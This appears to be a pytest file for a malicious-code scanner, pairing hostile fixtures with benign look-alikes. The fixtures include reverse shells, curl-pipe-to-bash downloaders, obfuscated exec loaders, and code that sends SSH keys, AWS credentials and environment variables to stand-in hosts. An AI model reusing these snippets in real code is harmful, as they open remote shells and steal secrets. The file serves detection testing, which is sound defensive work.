"""Malicious-code heuristics: for every check, fixtures it must flag and benign look-alikes it must not."""

from __future__ import annotations

import base64
import zlib
from pathlib import Path

import pytest

from scanning.analyzers.base import Severity, get_check
from scanning.analyzers.malicious import CHECKS, MaliciousCodeAnalyzer
from scanning.tests.analyzers.helpers import by_check, check_ids, make_context

ANALYZER = MaliciousCodeAnalyzer()
B64_STAGE = base64.b64encode(b"import os; os.system('id > /tmp/pwned')").decode()
ZLIB_STAGE = base64.b64encode(zlib.compress(b"print('second stage')")).decode()
PYOBF_STAGE = base64.b64encode(zlib.compress(b"print('obfuscated by a packer')")).decode()[::-1]
WEBHOOK = "https://discord.com/api/webhooks/112233445566778899/" + "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF3hI6kL9nO2qR5tU8"
TELEGRAM = "https://api.telegram.org/bot1234567890:" + "AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw1"

MALICIOUS: list[tuple[str, str, str, str]] = [
    # (check, file name, content, expected decoded preview fragment or "")
    ("MAL-EXEC-001", "a.py", f"import base64\nexec(base64.b64decode('{B64_STAGE}'))\n", "os.system('id"),
    ("MAL-EXEC-001", "b.py", f"import zlib, base64 as b\ndata = b.b64decode({ZLIB_STAGE!r})\nexec(zlib.decompress(data))\n",
     "second stage"),
    ("MAL-EXEC-001", "c.py", "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n", "print(1)"),
    ("MAL-EXEC-001", "d.py", "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))"
                             f";exec((_)({PYOBF_STAGE!r}))\n", "obfuscated by a packer"),
    ("MAL-EXEC-001", "e.py", "exec(bytes.fromhex('7072696e74282268657822290a').decode())\n", 'print("hex")'),
    ("MAL-EXEC-001", "f.py", "code = ')(tixe.sys ;sys tropmi'\neval(compile(code[::-1], '<x>', 'exec'))\n",
     "import sys"),
    ("MAL-EXEC-001", "g.py", "import codecs\nexec(codecs.decode('cevag(\"ebg13\")', 'rot13'))\n", 'print("rot13")'),
    ("MAL-EXEC-001", "h.py", "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAAAAAAAAAAAAAAAAAAA=')))\n",
     "marshalled code object"),
    ("MAL-EXEC-001", "i.js", "eval(atob('Y29uc29sZS5sb2coJ3N0YWdlIHR3bycp'));\n", "stage two"),
    ("MAL-EXEC-001", "j.js", "new Function(Buffer.from('636f6e736f6c652e6c6f672831293b', 'hex').toString())();\n",
     "console.log(1)"),
    ("MAL-EXEC-001", "k.js", "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41));\n", "alert(1)"),
    ("MAL-EXEC-001", "l.js", "const p = ';)1(gol.elosnoc';\neval(p.split('').reverse().join(''));\n", "console.log(1)"),
    ("MAL-EXEC-001", "m.js", 'eval("\\x63\\x6f\\x6e\\x73\\x6f\\x6c\\x65\\x2e\\x6c\\x6f\\x67\\x28\\x31\\x29");\n',
     "console.log(1)"),
    ("MAL-IMPORT-001", "a.py", "m = __import__('o' + 's')\n", "os"),
    ("MAL-IMPORT-001", "b.py", "import base64, importlib\nimportlib.import_module(base64.b64decode('c29ja2V0').decode())\n",
     "socket"),
    ("MAL-IMPORT-001", "c.py", "import os\ngetattr(os, 'sys' + 'tem')('id')\n", "system"),
    ("MAL-IMPORT-001", "d.js", "const cp = require('child' + '_process');\n", "child_process"),
    ("MAL-IMPORT-001", "e.js", "const m = require(atob('Y2hpbGRfcHJvY2Vzcw=='));\n", "child_process"),
    ("MAL-IMPORT-001", "f.js", "global['ev' + 'al']('1+1');\n", "eval"),
    ("MAL-DOWNLOAD-001", "a.py", "import urllib.request\nexec(urllib.request.urlopen('https://evil.test/x').read())\n", ""),
    ("MAL-DOWNLOAD-001", "b.py", "import requests\nexec(requests.get('https://evil.test/p.py').text)\n", ""),
    ("MAL-DOWNLOAD-001", "c.py", "import os, urllib.request\ndef run():\n    urllib.request.urlretrieve("
                                 "'https://evil.test/a', '/tmp/a')\n    os.chmod('/tmp/a', 0o755)\n"
                                 "    os.system('/tmp/a')\n", ""),
    ("MAL-DOWNLOAD-001", "d.py", "import subprocess\nsubprocess.run('curl -fsSL https://evil.test/i.sh | bash', shell=True)\n",
     ""),
    ("MAL-DOWNLOAD-001", "e.js", "const https = require('https');\nhttps.get('https://evil.test/p.js', res => {\n"
                                 "  let body = '';\n  res.on('data', d => body += d);\n  res.on('end', () => eval(body));\n});\n",
     ""),
    ("MAL-DOWNLOAD-001", "f.js", "const { execSync } = require('child_process');\n"
                                 "execSync('wget -qO- http://evil.test/x.sh | sh');\n", ""),
    ("MAL-SHELL-001", "a.py", "import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
                              "s.connect(('203.0.113.5', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n"
                              "subprocess.call(['/bin/sh', '-i'])\n", ""),
    ("MAL-SHELL-001", "b.py", "import os\nos.system('bash -i >& /dev/tcp/203.0.113.5/4444 0>&1')\n", ""),
    ("MAL-SHELL-001", "c.js", "var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n"
                              "var client = new net.Socket();\nclient.connect(4444, '203.0.113.5', function () {\n"
                              "  client.pipe(sh.stdin); sh.stdout.pipe(client);\n});\n", ""),
    ("MAL-SHELL-001", "d.sh", "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f\n",
     ""),
    ("MAL-EXFIL-001", "a.py", "import os, requests\ndef report():\n    env = dict(os.environ)\n"
                              "    requests.post('https://collector.test/c', json=env)\n", ""),
    ("MAL-EXFIL-001", "b.py", "import os, requests\ndef grab():\n    with open(os.path.expanduser('~/.ssh/id_rsa')) as f:\n"
                              "        return f.read()\nrequests.post('https://collector.test/k', data={'k': grab()})\n", ""),
    ("MAL-EXFIL-001", "c.py", "import socket, os, pathlib\nkey = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\n"
                              "s = socket.create_connection(('203.0.113.9', 80))\ns.sendall(key.encode())\n", ""),
    ("MAL-EXFIL-001", "d.js", "const https = require('https');\nconst data = JSON.stringify(process.env);\n"
                              "const req = https.request({ hostname: 'collector.test', method: 'POST' });\n"
                              "req.write(data);\nreq.end();\n", ""),
    ("MAL-EXFIL-001", "e.js", "const fs = require('fs'), os = require('os'), path = require('path');\n"
                              "const fetch = require('node-fetch');\n"
                              "fs.readFile(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8', (err, key) => {\n"
                              "  fetch('https://collector.test', { method: 'POST', body: key });\n});\n", ""),
    ("MAL-CRED-001", "a.py", "import os\npath = os.path.expanduser('~/.ssh/id_rsa')\n", ""),
    ("MAL-CRED-001", "b.js", "const p = require('path').join(process.env.LOCALAPPDATA, "
                             "'Google/Chrome/User Data/Default/Login Data');\n", ""),
    ("MAL-CRED-001", "c.py", "import shutil\nshutil.copy('/etc/passwd', '/tmp/p')\n", ""),
    ("MAL-WEBHOOK-001", "a.py", f"URL = '{WEBHOOK}'\n", ""),
    ("MAL-WEBHOOK-001", "b.js", f"const url = '{TELEGRAM}/sendMessage';\n", ""),
    ("MAL-URL-001", "a.py", "import requests\nrequests.get('https://bit.ly/3xYzAbC')\n", ""),
    ("MAL-URL-001", "b.js", "fetch('https://pastebin.com/raw/Ab12Cd34');\n", ""),
    ("MAL-URL-001", "c.py", "import urllib.request\nurllib.request.urlopen('http://91.200.12.34:8080/beacon')\n", ""),
    ("MAL-URL-001", "d.js", "const ws = new WebSocket('wss://abc123.ngrok-free.app/socket');\n", ""),
    ("MAL-MINER-001", "a.py", "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example:3333'])\n", ""),
    ("MAL-MINER-001", "b.json", '{"pools": [{"url": "pool.supportxmr.com:443"}], "donate-level": 1}\n', ""),
    ("MAL-SPAWN-001", "a.py", "import subprocess\nsubprocess.Popen(['python', 'agent.py'], stdout=subprocess.DEVNULL, "
                              "stderr=subprocess.DEVNULL, start_new_session=True)\n", ""),
    ("MAL-SPAWN-001", "b.py", "import subprocess\nsubprocess.Popen('agent.exe', creationflags=subprocess.CREATE_NO_WINDOW, "
                              "stdout=subprocess.DEVNULL)\n", ""),
    ("MAL-SPAWN-001", "c.js", "const { spawn } = require('child_process');\n"
                              "spawn('node', ['agent.js'], { detached: true, stdio: 'ignore' }).unref();\n", ""),
    ("MAL-CLIP-001", "a.py", "import pyperclip\nwallet = pyperclip.paste()\n", ""),
    ("MAL-CLIP-001", "b.py", "import subprocess\nsubprocess.check_output(['xclip', '-selection', 'clipboard', '-o'])\n", ""),
    ("MAL-CLIP-001", "c.js", "const clipboardy = require('clipboardy');\nconst text = clipboardy.readSync();\n", ""),
    ("MAL-UNICODE-001", "a.py", "access = 'user'\nif access != 'user\u202e \u2066# admins only\u2069 \u2066':\n    pass\n", ""),
    ("MAL-UNICODE-001", "b.js", "/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */\n", ""),
    ("MAL-UNICODE-002", "a.py", "def \u0430dd(a, b):\n    return a + b\n", ""),
    ("MAL-UNICODE-002", "b.py", "\U0001d41e\U0001d431\U0001d41e\U0001d41c('print(1)')\n", ""),
    ("MAL-UNICODE-002", "c.js", "const \u3164 = require('child_process');\n", ""),
    ("MAL-UNICODE-002", "d.py", "import requests\nrequests.get('https://g\u043e\u043egle.com/x')\n", ""),
    ("MAL-STEGO-001", "a.py", "from PIL import Image\nimg = Image.open('logo.png')\n"
                              "payload = bytes(p[0] for p in img.getdata())\nexec(payload)\n", ""),
    ("MAL-STEGO-001", "b.js", "const fs = require('fs');\nconst img = fs.readFileSync(__dirname + '/icon.png');\n"
                              "eval(img.slice(1024).toString());\n", ""),
    ("MAL-OBF-001", "a.js", "".join(f"var _0x{i:04x}a=_0x{(i + 1):04x}a+_0x{(i + 2):04x}a;\n" for i in range(60)), ""),
    ("MAL-OBF-001", "b.js", "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0 1',2,2,'a|b'.split('|'),0,{}))\n",
     ""),
    ("MAL-OBF-001", "c.py", "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'x')\n",
     ""),
    ("MAL-OBF-002", "a.py", "x=1;" * 2000 + "\n", ""),
    ("MAL-OBF-002", "b.py", "BLOB = '" + base64.b64encode(b"print('hidden')\n" * 1500).decode() + "'\n", "print('hidden')"),
    ("MAL-DOWNLOAD-002", "a.py", "HELP = 'curl -s https://get.example.test/install.sh | sh'\n", ""),
    ("MAL-DOWNLOAD-002", "b.sh", "#!/bin/sh\ncurl -fsSL https://get.example.test/i.sh | sudo bash\n", ""),
]

BENIGN: list[tuple[str, str, str]] = [
    # (check that must stay quiet, file name, content)
    ("MAL-EXEC-001", "a.py", "import base64\nraw = base64.b64decode(token)\nprint(raw)\n"),
    ("MAL-EXEC-001", "b.py", "ns = {}\nexec(compile(source, filename, 'exec'), ns)\n"),
    ("MAL-EXEC-001", "c.py", "value = eval(expr, {'__builtins__': {}})\n"),
    ("MAL-EXEC-001", "d.js", "const re = /^(\\S+):(\\d+)$/;\nconst m = re.exec(line);\n"
                             "const { exec } = require('child_process');\nexec('git status');\n"),
    ("MAL-EXEC-001", "e.js", "const buf = Buffer.from(input, 'base64');\nconsole.log(buf.toString());\n"),
    ("MAL-EXEC-001", "f.js", "const tpl = new Function('data', 'return data.name');\n"),
    ("MAL-IMPORT-001", "a.py", "__import__('pkg_resources').declare_namespace(__name__)\n"),
    ("MAL-IMPORT-001", "b.py", "import importlib\nfor name in PLUGINS:\n    importlib.import_module(name)\n"),
    ("MAL-IMPORT-001", "c.js", "const plugin = require(path.join(dir, name));\nconst cfg = require('./config');\n"),
    ("MAL-DOWNLOAD-001", "a.py", "import requests\nresponse = requests.get(url)\ndata = response.json()\n"),
    ("MAL-DOWNLOAD-001", "b.js", "const { execSync } = require('child_process');\n"
                                 "execSync('npm install --no-audit esbuild-linux-64', { stdio: 'pipe' });\n"),
    ("MAL-SHELL-001", "a.py", "import socket\ns = socket.create_connection(('localhost', 8080))\ns.sendall(b'ping')\n"),
    ("MAL-SHELL-001", "b.py", "import subprocess\nsubprocess.run(['/bin/sh', '-c', 'make build'], check=True)\n"),
    ("MAL-EXFIL-001", "a.py", "import os, subprocess\nenv = dict(os.environ, LANG='C')\nsubprocess.run(['ls'], env=env)\n"),
    ("MAL-EXFIL-001", "b.py", "import os, requests\ntoken = os.environ['GITHUB_TOKEN']\n"
                              "requests.get('https://api.github.com/user', headers={'Authorization': token})\n"),
    ("MAL-EXFIL-001", "c.js", "const https = require('https');\nconst env = { ...process.env, NODE_ENV: 'production' };\n"
                              "require('child_process').spawn('node', ['x.js'], { env });\n"
                              "https.get('https://registry.npmjs.org/x');\n"),
    ("MAL-CRED-001", "a.py", "raise ValueError('Put your key in ~/.ssh/id_rsa and retry')\n"),
    ("MAL-CRED-001", "b.js", "console.log('Set credentials in ~/.aws/credentials');\n"),
    ("MAL-WEBHOOK-001", "a.py", "def send(webhook_id, token):\n"
                                "    return f'https://discord.com/api/webhooks/{webhook_id}/{token}'\n"),
    ("MAL-URL-001", "a.py", "DOCS = 'https://docs.python.org/3/library/ast.html'\nLOCAL = 'http://127.0.0.1:8000/'\n"),
    ("MAL-URL-001", "b.js", "throw new Error('Promise rejected, see http://goo.gl/MqrFmX for details');\n"),
    ("MAL-URL-001", "c.py", "# see https://bit.ly/abc for the design\nVERSION = '10.0.0.1'\n"),
    ("MAL-MINER-001", "a.py", "def mine_data(rows):\n    return [r for r in rows if r.pool == 'default']\n"),
    ("MAL-SPAWN-001", "a.py", "import subprocess\nsubprocess.run(['git', 'status'], stdout=subprocess.DEVNULL)\n"),
    ("MAL-SPAWN-001", "b.js", "const { spawn } = require('child_process');\nspawn('npm', ['test'], { stdio: 'inherit' });\n"),
    ("MAL-CLIP-001", "a.py", "import pyperclip\npyperclip.copy(result)\n"),
    ("MAL-UNICODE-001", "a.py", "RLO = '\\u202e'  # escaped, not a raw control character\n"),
    ("MAL-UNICODE-001", "b.js", "const ranges = /[\u200b-\u200f\u202a-\u202e\u2066-\u2069]/;\n"),
    ("MAL-UNICODE-002", "a.py", "def größe(wert):\n    return wert\n\nπ = 3.14159\nимя = 'Иван'\n"),
    ("MAL-UNICODE-002", "b.py", "'''A type that accepts http://puny£code.com'''\n"),
    ("MAL-STEGO-001", "a.py", "from PIL import Image\nimg = Image.open('photo.png')\nimg.thumbnail((64, 64))\nimg.save('t.png')\n"),
    ("MAL-OBF-001", "a.js", "var a=1,b=2;function c(d,e){return d+e}module.exports=c(a,b);\n" * 50),
    ("MAL-OBF-002", "a.py", "TABLE = (" + ", ".join(f"'{i:04x}'" for i in range(3000)) + ")\n"),
    ("MAL-DOWNLOAD-002", "a.py", "'''Install with: pip install sample'''\nimport sys\n"),
]


def _run(tmp_path: Path, name: str, content: str, ecosystem: str = "pypi") -> list:
    ctx = make_context(tmp_path, {f"pkg/{name}": content}, ecosystem=ecosystem)
    return ANALYZER.analyze(ctx)


@pytest.mark.parametrize(("check_id", "name", "content", "preview"), MALICIOUS,
                         ids=[f"{c}-{n}" for c, n, _, _ in MALICIOUS])
def test_malicious_fixture_is_flagged(tmp_path: Path, check_id: str, name: str, content: str, preview: str) -> None:
    findings = _run(tmp_path, name, content, "npm" if name.endswith(".js") else "pypi")
    hits = by_check(findings, check_id)
    assert hits, f"{check_id} not raised; got {sorted(check_ids(findings))}"
    hit = hits[0]
    assert hit.file_path == f"pkg/{name}" and hit.line and hit.line >= 1
    assert hit.evidence["file"] == f"pkg/{name}" and "snippet" in hit.evidence
    assert hit.severity == get_check(check_id).severity
    if preview:
        assert preview in hit.evidence.get("decoded_preview", ""), hit.evidence


@pytest.mark.parametrize(("check_id", "name", "content"), BENIGN, ids=[f"{c}-{n}" for c, n, _ in BENIGN])
def test_benign_fixture_is_not_flagged(tmp_path: Path, check_id: str, name: str, content: str) -> None:
    findings = _run(tmp_path, name, content, "npm" if name.endswith(".js") else "pypi")
    assert not by_check(findings, check_id), [f.detail for f in findings]


def test_every_check_has_malicious_and_benign_fixtures() -> None:
    ids = {c.id for c in CHECKS}
    assert ids == {c for c, *_ in MALICIOUS}
    assert ids == {c for c, *_ in BENIGN}


def test_webhook_evidence_is_masked(tmp_path: Path) -> None:
    (hit,) = by_check(_run(tmp_path, "a.py", f"URL = '{WEBHOOK}'\n"), "MAL-WEBHOOK-001")
    token = WEBHOOK.rsplit("/", 1)[1]
    assert token not in str(hit.evidence)


def test_comments_and_strings_do_not_fool_the_js_tokenizer(tmp_path: Path) -> None:
    content = ("// eval(atob('Y29uc29sZS5sb2coMSk='))\n/* require('child' + '_process') */\n"
               "const s = \"eval(atob('Y29uc29sZS5sb2coMSk='))\";\nconst r = /eval\\(atob\\(/g;\n")
    assert not _run(tmp_path, "x.js", content, "npm")


def test_python2_file_falls_back_to_text_checks(tmp_path: Path) -> None:
    content = f"print 'hello'\nURL = '{WEBHOOK}'\n"
    assert "MAL-WEBHOOK-001" in check_ids(_run(tmp_path, "old.py", content))


def test_misplaced_minified_javascript(tmp_path: Path) -> None:
    readable = "function add(a, b) {\n  return a + b;\n}\n\nmodule.exports = add;\n"
    minified = "var a=" + "+".join(f"b{i}" for i in range(2000)) + ";" + "function x(y){return y*2}" * 200
    files = {f"package/lib/f{i}.js": readable for i in range(4)}
    files["package/index.js"] = readable
    files["package/setup.js"] = minified
    files["package/dist/bundle.js"] = minified
    ctx = make_context(tmp_path, files, ecosystem="npm")
    paths = {f.file_path for f in by_check(ANALYZER.analyze(ctx), "MAL-OBF-002")}
    assert paths == {"package/setup.js"}


def test_only_medium_or_lower_checks_may_fire_on_legitimate_sdk_code(tmp_path: Path) -> None:
    content = ("import os\nimport configparser\n\ndef load():\n    parser = configparser.ConfigParser()\n"
               "    parser.read(os.path.expanduser('~/.aws/credentials'))\n    return parser\n")
    findings = _run(tmp_path, "creds.py", content)
    assert check_ids(findings) == {"MAL-CRED-001"}
    assert all(f.severity in (Severity.MEDIUM, Severity.LOW) for f in findings)
